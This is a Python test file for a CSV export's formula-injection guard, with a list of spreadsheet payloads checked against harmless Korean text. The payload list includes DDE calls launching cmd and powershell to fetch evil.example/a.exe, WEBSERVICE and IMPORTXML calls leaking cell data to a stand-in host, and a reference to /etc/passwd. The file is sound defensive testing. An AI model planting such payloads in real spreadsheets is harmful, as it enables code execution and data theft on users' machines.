"""The formula guard: everything that could run is guarded, everything harmless stays readable."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reports.formats.csv import safe_cell
from reports.formats.formula_guard import GUARD, could_be_formula, guard_cell

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","눌러 보기")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "=포항",
    "==",
    "=",
    "= 1",
    "=@SUM(1)",
    "=+1",
    "=-1",
    "={1,2}",
    "='file:///etc/passwd'#$passwd.A1",
    "=IFERROR(1,2) 한파…",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+cmd|'/C powershell IEX(wget evil.example/a.exe)'!A0",
    "+SUM(1,2)",
    "+A1",
    "+$A$1",
    "+A1:B2",
    '+HYPERLINK("http://evil.example")',
    "+(1)*2",
    "+포항",
    "+Sheet1!A1",
    '+"a"&A1',
    "+'[x.xls]S'!A1",
    "+{1;2}",
    "+1=1",
    "-1+1|cmd",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-SUM(1)",
    "-A1",
    "-a",
    "-1^2",
    "-A1 B1",
    "-30% SUM(1)",
    "-1*A1",
    '-1&"a"',
    "-포항",
    "-_x",
    "-15도|cmd' /C calc'!A0",
    '-15도 HYPERLINK("http://evil.example")',
    "-1…+SUM(1)",
    "-15도 =1+1",
    "-'15도'!A1",
    "-‘인용’Sheet1!A1",
    "@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@cmd",
    "@1",
    "@@",
    "@포항|cmd!A0",
    "@포항=1",
    "@포항 SUM(1)",
    "@옥산!A1",
    "\t=1+1",
    "\t한파",
    "\r=1+1",
    "\n=1+1",
    "\n한파",
    "\0=1+1",
    "\0한파",
    " =1+1",
    "   -1+1|cmd",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2028=1+1",
    "＝1+1",
    "＝ＳＵＭ（１）",
    "＋ＳＵＭ（１）",
    "－1+1｜cmd",
    "＠SUM(1)",
    "﹦1+1",
    "﹢A1",
    "﹫SUM(1)",
    "⁼1",
    "+\u200bA1",
    "-\u00adSUM(1)",
    "@\u200bSUM(1)",
    "=" * 40_000,
]
HARMLESS = [
    "-15도 한파",
    "-15도 한파 예보(종합)",
    "-15도 한파, '동파' 주의",
    "-20∼-15도 한파",
    "-30% 할인",
    "-10.5%",
    "-3",
    "+82-10-1234-5678",
    "+82-10-…",
    "+82 (0)54 270 1234",
    "+3.5%",
    "+1,000",
    "+α ‘효과’ 노린다",
    "-‘포항’ 이야기",
    "- 오는 11월 3일부터 개최",
    "@옥산",
    "@옥산군",
    "@옥산 어린이집",
    "@포항(시청)",
    "-",
    "+",
    "@",
    "",
    "포항=철강",
    "‘=’ 기호",
    "'=1+1",
    '"=1+1"',
    "1+1",
    "(=1)",
    "포항 -15도",
    "kim@sample.example",
    "https://sample.example/?a=1&b=+2",
    "▲ 사진",
    "… 줄임",
    "[포토] 포항",
    "※ 안내",
    "−5도",
    "–5도",
    "첫 줄\n=둘째 줄",
]


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 80
    assert not set(PAYLOADS) & set(HARMLESS)


@pytest.mark.parametrize("text", PAYLOADS, ids=lambda text: ascii(text[:30]))
def test_what_could_run_is_guarded(text: str) -> None:
    assert could_be_formula(text)
    assert guard_cell(text) == GUARD + text
    assert safe_cell(text).startswith(GUARD)
    assert "\0" not in safe_cell(text)


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert guard_cell(text) == safe_cell(text) == text


@given(st.text(st.sampled_from("=+-@\t\r\n\0 \u00a0\u200b＝－1A포항(|!\"'…"), max_size=12) | st.text(max_size=30))
def test_no_cell_begins_as_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert cell[:1] not in ("=", "\t", "\r", "\n", "\0", "＝")
    if cell[:1] in ("+", "-", "@"):
        assert "|" not in cell
        assert "=" not in cell
        assert "SUM(" not in cell
    assert cell in (text.replace("\0", ""), GUARD + text.replace("\0", ""))


@pytest.mark.parametrize("text", ["-" * 1_000_000, "-1" * 500_000, "-a(" * 300_000, "-!" * 500_000, "\u200b" * 500_000])
def test_hostile_texts_take_no_time(text: str) -> None:
    assert isinstance(could_be_formula(text), bool)
